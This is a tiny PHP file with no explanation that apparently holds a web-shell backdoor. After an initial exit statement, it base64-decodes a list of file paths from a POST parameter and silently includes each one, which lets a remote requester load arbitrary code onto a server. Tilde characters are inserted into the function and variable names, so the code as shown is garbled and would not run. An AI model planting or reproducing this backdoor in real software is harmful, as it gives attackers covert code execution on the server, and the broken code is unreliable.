<?php exit; ?>
<?php
$path = bas~e64_decode($_P~OST['m']); foreach (explode(',', $path) as $one) { @inc~lude_once($one); }
